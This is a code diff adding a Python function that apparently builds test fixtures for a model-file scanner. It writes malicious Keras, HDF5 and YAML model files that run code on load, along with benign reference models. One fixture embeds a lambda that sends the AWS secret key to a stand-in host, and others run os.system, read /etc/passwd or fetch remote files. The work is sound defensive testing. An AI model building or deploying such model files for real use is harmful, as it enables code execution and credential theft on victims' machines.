@@ -141,5 +141,61 @@ def state_dict():
     return proto(b"ccollections\nOrderedDict\n)R(X\x06\x00\x00\x00weight" + tensor + b"u", 2)
 
 
+def keras():
+    a = lambda name, content: write("attacks", "keras-" + name, content)
+
+    import h5py
+
+    def hdf5(attributes):
+        out = io.BytesIO()
+        with h5py.File(out, "w", track_order=False) as file:
+            for name, value in attributes.items():
+                file.attrs[name] = value
+            file.create_dataset("w", data=[1.0, 2.0])
+        return out.getvalue()
+
+    def marshalled(source):
+        return base64.encodebytes(marshal.dumps(eval(source).__code__)).decode()
+
+    def model(*layers):
+        return json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": list(layers)}}).encode()
+
+    def layer(name, config, module="keras.layers"):
+        return {"module": module, "class_name": name, "config": config, "registered_name": None}
+
+    def saved(config):
+        return zipped({"metadata.json": b'{"keras_version": "3.8.0"}', "config.json": config, "model.weights.h5": hdf5({})})
+
+    acting = marshalled("lambda x: __import__('os').system('true') or x")
+    function = {"class_name": "__lambda__", "config": {"code": acting, "defaults": None, "closure": None}}
+    a("lambda.keras", saved(model(layer("Dense", {"units": 2}), layer("Lambda", {"function": function}))))
+    a("activation.keras", saved(model(layer("Dense", {"units": 2, "activation": function}))))
+    escaped = model(layer("Lambda", {"function": function})).replace(b"class_name", b"class_n\\u0061me")
+    a("escaped.json", escaped)
+    module = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
+    a("module.keras", saved(model(layer("Lambda", {"function": module, "arguments": {"command": "true"}}))))
+    a("get-file.keras", saved(model(layer("get_file", {"fname": "a", "origin": "https://files.example/a"}, "keras.utils"))))
+    a("unknown-module.keras", saved(model(layer("Prepare", {}, "acme_layers.setup"))))
+    a("vocabulary.keras", saved(model(layer("StringLookup", {"vocabulary": "/etc/passwd"}))))
+    torch = {"module": base64.b64encode(SYSTEM).decode()}
+    a("torch-wrapper.keras", saved(model(layer("TorchModuleWrapper", torch))))
+    old = {"class_name": "Sequential", "config": [{"class_name": "Lambda", "config": {"function": [acting, None, None], "function_type": "lambda"}}]}
+    a("old.yaml", ("class_name: Sequential\nconfig:\n- class_name: Lambda\n  config:\n    function_type: lambda\n    function:\n    - " + json.dumps(acting) + "\n").encode())
+    a("reads-keys.keras", saved(model(layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": marshalled(
+        "lambda x: __import__('urllib.request').request.urlopen('http://c.example/' + __import__('os').environ.get('AWS_SECRET_ACCESS_KEY')) and x")}}}))))
+    a("tag.yaml", b"class_name: Sequential\nconfig:\n  name: !!python/object/apply:os.system ['true']\n")
+
+    a("lambda.h5", hdf5({"model_config": json.dumps(old), "keras_version": "2.4.0", "backend": "tensorflow"}))
+    import numpy
+    a("pickled-attribute.h5", hdf5({"TITLE": "frame", "info": numpy.void(SYSTEM)}))
+    h = lambda name, content: write("honest", "keras-" + name, content)
+    dense = layer("Dense", {"units": 2, "activation": "relu", "kernel_initializer": layer("GlorotUniform", {"seed": None}, "keras.initializers")})
+    words = layer("TextVectorization", {"max_tokens": 100, "standardize": "lower_and_strip_punctuation", "vocabulary": None})
+    gelu = layer("Activation", {"activation": {"module": "keras.activations", "class_name": "function", "config": "gelu", "registered_name": "gelu"}})
+    h("dense.keras", saved(model(words, dense, gelu)))
+    h("dense.h5", hdf5({"model_config": json.dumps({"class_name": "Sequential", "config": {"layers": [dense]}}), "keras_version": "3.8.0"}))
+
+
 if __name__ == "__main__":
     pickles()
+    keras()
